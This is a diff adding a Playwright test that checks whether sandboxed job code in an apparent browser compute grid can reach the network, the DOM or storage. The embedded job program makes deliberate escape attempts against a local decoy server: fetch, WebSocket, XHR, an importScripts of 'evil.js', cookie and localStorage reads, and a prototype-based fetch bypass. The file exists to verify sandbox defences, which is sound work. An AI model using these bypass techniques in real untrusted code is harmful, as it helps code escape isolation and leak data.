@@ -1,0 +1,66 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, test } from '@playwright/test';
+import { startGrid, type Grid } from '../support/grid.js';
+
+let grid: Grid;
+let decoy: Server;
+let decoyConnections = 0;
+let decoyUrl: string;
+
+test.beforeEach(async ({ browser }) => {
+  grid = await startGrid(browser);
+  decoyConnections = 0;
+  decoy = createServer((_req, res) => res.end('you should never see this'));
+  decoy.on('connection', () => decoyConnections++);
+  await new Promise<void>((resolve) => decoy.listen(0, '127.0.0.1', resolve));
+  decoyUrl = `127.0.0.1:${(decoy.address() as AddressInfo).port}`;
+});
+test.afterEach(async () => {
+  await grid.stop();
+  await new Promise((resolve) => decoy.close(resolve));
+});
+
+test('job code cannot reach the network, the DOM or the page, and says so clearly', async () => {
+  const page = await grid.openTab();
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  const job = await grid.tg.createJob({
+    program: `async function Run(what, args) {
+      switch (what) {
+        case 'fetch': await fetch('http://' + args.decoy + '/fetch'); return 'fetched';
+        case 'websocket': new WebSocket('ws://' + args.decoy + '/ws'); return 'opened';
+        case 'importScripts': importScripts('http://' + args.decoy + '/evil.js'); return 'imported';
+        case 'document': return document.cookie;
+        case 'xhr': { const x = new XMLHttpRequest(); x.open('GET', 'http://' + args.decoy + '/xhr'); x.send(); return 'sent'; }
+        case 'localStorage': return localStorage.getItem('x');
+        // Past the replaced globals, the sandbox's Content-Security-Policy still blocks it.
+        case 'prototypeFetch': {
+          const original = Object.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'fetch');
+          await original.value.call(self, 'http://' + args.decoy + '/proto');
+          return 'fetched';
+        }
+      }
+    }`,
+    args: { decoy: decoyUrl },
+  });
+  const attempts = ['fetch', 'websocket', 'importScripts', 'document', 'xhr', 'localStorage', 'prototypeFetch'];
+  const errors = new Map<string, string>();
+  for await (const out of job.run(attempts)) {
+    expect(out.ok, `${attempts[out.index]} must fail`).toBe(false);
+    if (!out.ok) errors.set(attempts[out.index]!, out.error.message);
+  }
+  expect(errors.get('fetch')).toMatch(/fetch is not available to job code/);
+  expect(errors.get('websocket')).toMatch(/WebSocket is not available to job code/);
+  expect(errors.get('importScripts')).toMatch(/importScripts is not available to job code/);
+  expect(errors.get('document')).toMatch(/no DOM|not defined|document/);
+  expect(errors.get('xhr')).toMatch(/XMLHttpRequest is not available to job code/);
+  expect(errors.get('localStorage')).toBeTruthy();
+  expect(errors.get('prototypeFetch')).toBeTruthy();
+  // Give any stray asynchronous connection attempt time to land, then check none did.
+  await page.waitForTimeout(500);
+  expect(decoyConnections).toBe(0);
+  expect(requests.filter((url) => url.includes(decoyUrl))).toEqual([]);
+  // The tab is still healthy afterwards.
+  await expect(page.getByTestId('connection-state')).toHaveText('connected');
+});
